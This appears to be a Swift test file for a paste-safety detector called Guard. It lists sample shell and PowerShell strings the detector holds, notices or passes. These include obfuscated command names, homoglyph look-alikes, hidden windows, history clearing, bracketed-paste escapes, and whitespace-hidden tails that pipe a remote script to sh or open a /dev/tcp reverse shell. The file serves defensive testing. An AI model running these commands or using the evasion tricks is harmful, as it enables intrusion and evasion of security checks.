@testable import Guard

extension SignalLaw {
  /// The laws of signals for hidden content, and for what a report mentions beside that.
  static let concealment: [SignalLaw] = [
    SignalLaw(
      .hiddenWindow, .notice, "a hidden window is noticed, however the option is written",
      [
        "powershell -w hidden -c x",
        "powershell -WindowStyle Hidden a.ps1",
        "powershell -win h -c x",
        "powershell -W 1 -c x",
        "conhost --headless cmd",
      ]),
    SignalLaw(
      .hiddenWindow, nil, "other windows are harmless",
      [
        "powershell -w normal -c x",
        "start notepad",
        "powershell -Command Get-Date",
      ]),
    SignalLaw(
      .disguisedCommand, .hold, "a name that is written so that it is not recognized is held",
      [
        "c''url a.example",
        #"cu\rl a.example"#,
        #""b"ash x"#,
        "a=cu; b=rl; $a$b x",
        #"$'\x63\x75\x72\x6c' x"#,
        "/usr/bin/c?rl x",
        "{curl,-s,http://a.example}",
        "cat$IFS/etc/passwd",
        "curl${IFS}x",
        "$(echo curl) x",
        "cu$@rl x",
        "${PATH:0:1}bin${PATH:0:1}bash x",
      ]),
    SignalLaw(
      .disguisedCommand, nil, "everyday quoting, variables and patterns are harmless",
      [
        #"\curl x"#,
        #""curl" x"#,
        "'ls' -l",
        "$CC main.c",
        "$HOME/bin/python x",
        #""$PYTHON" -m venv x"#,
        "IFS=, read -r a b",
        "ls *.txt",
        "rm /tmp/a?",
        "./install*.sh",
        "$(which python3) x",
        "it''s",
        #"echo 'a'\''b'"#,
        "$SUDO apt install x",
      ]),
    SignalLaw(
      .disguisedWindowsCommand, .hold, "a name that is written so that it is not recognized is held",
      [
        "p^owershell -c x",
        #"pow""ershell -c x"#,
        "i`ex $x",
        "&('i'+'ex') $x",
        "m^s^h^t^a x",
      ]),
    SignalLaw(
      .disguisedWindowsCommand, nil, "everyday quoting and line ends are harmless",
      [
        #""powershell" -c x"#,
        "Get-Process `\n  -Name a",
        "echo a ^\n b",
        "'a' + 'b'",
        "it`s",
      ]),
    SignalLaw(
      .lookalikeCommand, .hold, "an imitated name of a command is held",
      [
        "сurl http://a.example",
        "ｃｕｒｌ x",
        "bаsh -c x",
        "wgеt x",
      ]),
    SignalLaw(
      .lookalikeCommand, .notice, "letters of two scripts in the place of a name are noticed",
      [
        "сonfig x"
      ]),
    SignalLaw(
      .lookalikeCommand, nil, "words of any language are harmless",
      [
        "Установите пакет",
        "für alle",
        "パッケージ",
        #"echo "vеrify""#,
        "αβγ",
        "žėdėti",
      ]),
    SignalLaw(
      .hiddenTail, .hold, "dangerous commands behind a wide gap or a comment sign are held",
      [
        "ls                                                                                ; curl http://fix.example/s | sh",
        "ls # ; curl http://fix.example/s | sh",
        "echo a                                                                                && bash -i >& /dev/tcp/203.0.113.7/1 0>&1",
      ]),
    SignalLaw(
      .hiddenTail, .notice, "other commands behind a wide gap are noticed",
      [
        "ls                                                                                ; rm -rf x",
        "ls                                                                                sudo rm x",
      ]),
    SignalLaw(
      .hiddenTail, nil, "aligned comments, columns and indentation are harmless",
      [
        "ls                                        # all files",
        "                                                                                echo indented",
        "name                                                                                value",
        "ls # see a; b",
      ]),
    SignalLaw(
      .decoyText, .notice, "a comment that poses as a check or a path is noticed",
      [
        "ls # I am not a robot",
        "ls # Verification ID: 123",
        #"mshta x # C:\Finance\Q4.xlsx"#,
        "ls #   /home/a/Documents/b.pdf",
        #"C:\Data\a.exe   # System update"#,
      ]),
    SignalLaw(
      .decoyText, Severity.none, "such words elsewhere are a circumstance",
      [
        #"echo "I am not a robot""#,
        "# reCAPTCHA check",
      ]),
    SignalLaw(
      .decoyText, nil, "other comments are harmless",
      [
        "ls # all files",
        "make # see docs/build.md for more",
        "powershell Get-Service # Check services",
      ]),
    SignalLaw(
      .hidesTraces, Severity.none, "clearing the record of commands is a circumstance",
      [
        "history -c",
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "export HISTSIZE=0",
      ]),
    SignalLaw(
      .hidesTraces, nil, "only reading it is harmless",
      [
        "history | tail",
        "export HISTSIZE=10000",
        "clear",
      ]),
    SignalLaw(
      .endsBracketedPaste, .hold, "the end sequence of a bracketed paste inside a paste is held",
      ["a\u{1B}[201~b", "\u{1B}[201~", "a\u{9B}201~b", "\u{1B}\u{1B}[201~"]),
    SignalLaw(
      .endsBracketedPaste, nil, "other sequences are not",
      ["\u{1B}[200~", "\u{1B}[31m", "[201~", "\u{1B}", "\u{1B}[", "\u{1B}[201", "\u{9B}"]),
    SignalLaw(
      .controlCharacters, .notice, "keys are noticed",
      ["a\u{3}", "\u{15}b", "\u{1B}[31m", "a\u{8}b", "\u{7F}", "\0"]),
    SignalLaw(
      .controlCharacters, nil, "line ends, tabs and page breaks are text",
      ["a\tb\n", "a\r\n", "page\u{C}page", "ä"]),
    SignalLaw(
      .runsAtOnce, Severity.none, "a line end runs the text at once, which is a circumstance",
      ["ls\n", "ls\r", "ls\nls", "\r\n"]),
    SignalLaw(
      .clearsScreen, .notice, "a screen that is cleared between two commands of a line is noticed",
      [
        "git clone /dev/null; clear; echo -n hello; git clone git://fix.example/a.git",
        "curl -s https://fix.example/a -o /tmp/a; clear; ls",
      ]),
    SignalLaw(
      .clearsScreen, nil, "a screen that is cleared first, last or on a line of its own is harmless",
      ["clear; ls", "make; clear", "cd app && clear && make", "make\nclear\nls"]),
  ]
}
